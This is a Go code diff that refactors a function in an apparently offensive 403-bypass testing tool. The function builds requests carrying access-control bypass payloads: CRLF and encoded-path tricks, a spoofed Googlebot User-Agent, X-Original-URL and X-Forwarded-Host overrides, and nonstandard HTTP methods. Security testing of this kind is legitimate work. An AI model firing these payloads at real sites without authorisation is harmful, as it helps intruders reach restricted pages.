@@ -1,19 +1,16 @@
 package bypass
 
-import (
-	"net/http"
-	"net/url"
-)
-
 // TestPayloads tests specialized payloads for bypassing 403 responses
-func TestPayloads(baseURL string, client *http.Client, config Config) ([]Result, error) {
-	var results []Result
-	parsedURL, err := url.Parse(baseURL)
+func TestPayloads(baseURL string, config Config) ([]Attempt, error) {
+	var attempts []Attempt
+	origin, path, query, err := splitTarget(baseURL)
 	if err != nil {
-		return results, err
+		return attempts, err
 	}
+	host := parseDomain(baseURL)
 
-	// Various specialized techniques
+	// Various specialized techniques. Paths are complete request-targets and
+	// are sent exactly as written.
 	specializedPayloads := []struct {
 		Path      string
 		Method    string
@@ -21,38 +18,38 @@ func TestPayloads(baseURL string, client *http.Client, config Config) ([]Result,
 		Technique string
 	}{
 		{
-			Path:      parsedURL.Path + "?",
-			Method:    "GET",
+			Path:      withQuery(path+"?", query),
+			Method:    config.method(),
 			Headers:   nil,
 			Technique: "Query Parameter Confusion",
 		},
 		{
-			Path:      parsedURL.Path + "#admin",
-			Method:    "GET",
+			Path:      withQuery(path, query) + "#admin",
+			Method:    config.method(),
 			Headers:   nil,
 			Technique: "URL Fragment Bypass",
 		},
 		{
-			Path:      parsedURL.Path + "%",
-			Method:    "GET",
+			Path:      withQuery(path+"%", query),
+			Method:    config.method(),
 			Headers:   nil,
 			Technique: "URL Parsing Error",
 		},
 		{
-			Path:      parsedURL.Path + "%09",
-			Method:    "GET",
+			Path:      withQuery(path+"%09", query),
+			Method:    config.method(),
 			Headers:   nil,
 			Technique: "Tab Character",
 		},
 		{
-			Path:      parsedURL.Path + "%0d%0a",
-			Method:    "GET",
+			Path:      withQuery(path+"%0d%0a", query),
+			Method:    config.method(),
 			Headers:   nil,
 			Technique: "CRLF Injection",
 		},
 		{
-			Path:   parsedURL.Path,
-			Method: "GET",
+			Path:   withQuery(path, query),
+			Method: config.method(),
 			Headers: map[string]string{
 				"Referer":    "https://www.google.com/",
 				"Connection": "close",
@@ -60,16 +57,16 @@ func TestPayloads(baseURL string, client *http.Client, config Config) ([]Result,
 			Technique: "Search Engine Referrer",
 		},
 		{
-			Path:   parsedURL.Path,
-			Method: "GET",
+			Path:   withQuery(path, query),
+			Method: config.method(),
 			Headers: map[string]string{
 				"User-Agent": "Googlebot/2.1 (+http://www.google.com/bot.html)",
 			},
 			Technique: "Search Bot User-Agent",
 		},
 		{
-			Path:   parsedURL.Path,
-			Method: "GET",
+			Path:   withQuery(path, query),
+			Method: config.method(),
 			Headers: map[string]string{
 				"X-CSRF-Token": "",
 				"X-API-Key":    "",
@@ -77,55 +74,55 @@ func TestPayloads(baseURL string, client *http.Client, config Config) ([]Result,
 			Technique: "Empty Security Headers",
 		},
 		{
-			Path:      parsedURL.Path + "/.",
-			Method:    "GET",
+			Path:      withQuery(path+"/.", query),
+			Method:    config.method(),
 			Headers:   nil,
 			Technique: "Path Dot Appending",
 		},
 		{
-			Path:      parsedURL.Path,
+			Path:      withQuery(path, query),
 			Method:    "DEBUG",
 			Headers:   nil,
 			Technique: "Non-standard HTTP Method",
 		},
 		{
-			Path:      parsedURL.Path,
+			Path:      withQuery(path, query),
 			Method:    "JEFF",
 			Headers:   nil,
 			Technique: "Made-up HTTP Method",
 		},
 		{
-			Path:   parsedURL.Path,
-			Method: "GET",
+			Path:   withQuery(path, query),
+			Method: config.method(),
 			Headers: map[string]string{
 				"Accept": "*/*.*",
 			},
 			Technique: "Malformed Accept Header",
 		},
 		{
-			Path:   parsedURL.Path,
-			Method: "GET",
+			Path:   withQuery(path, query),
+			Method: config.method(),
 			Headers: map[string]string{
-				"Host":             parsedURL.Host,
+				"Host":             host,
 				"X-Forwarded-Host": "localhost",
 			},
 			Technique: "Host Override",
 		},
 		{
-			Path:      parsedURL.Path,
+			Path:      withQuery(path, query),
 			Method:    "TRACE",
 			Headers:   nil,
 			Technique: "TRACE Method",
 		},
 		{
-			Path:      parsedURL.Path + "?" + parsedURL.RawQuery + "&_=" + parsedURL.Path,
-			Method:    "GET",
+			Path:      path + "?" + query + "&_=" + path,
+			Method:    config.method(),
 			Headers:   nil,
 			Technique: "Cache Buster Parameter",
 		},
 		{
-			Path:   parsedURL.Path,
-			Method: "GET",
+			Path:   withQuery(path, query),
+			Method: config.method(),
 			Headers: map[string]string{
 				"X-Original-URL": "/",
 				"X-Override-URL": "/",
@@ -135,34 +132,18 @@ func TestPayloads(baseURL string, client *http.Client, config Config) ([]Result,
 	}
 
 	for _, payload := range specializedPayloads {
-		manipulatedURL := *parsedURL
-		manipulatedURL.Path = payload.Path
-
-		req, err := http.NewRequest(payload.Method, manipulatedURL.String(), nil)
+		req, err := newRequest(payload.Method, origin, payload.Path, config)
 		if err != nil {
 			continue
 		}
 
-		req.Header.Set("User-Agent", config.UserAgent)
-		if payload.Headers != nil {
-			for header, value := range payload.Headers {
-				req.Header.Set(header, value)
-			}
-		}
-
-		resp, err := client.Do(req)
-		if err != nil {
-			continue
+		technique := "Specialized: " + payload.Technique
+		for header, value := range payload.Headers {
+			technique += setHeader(req, header, value, config)
 		}
-		resp.Body.Close()
 
-		results = append(results, Result{
-			URL:        manipulatedURL.String(),
-			StatusCode: resp.StatusCode,
-			Method:     payload.Method,
-			Technique:  "Specialized: " + payload.Technique,
-		})
+		attempts = append(attempts, Attempt{Request: req, Technique: technique})
 	}
 
-	return results, nil
+	return attempts, nil
 }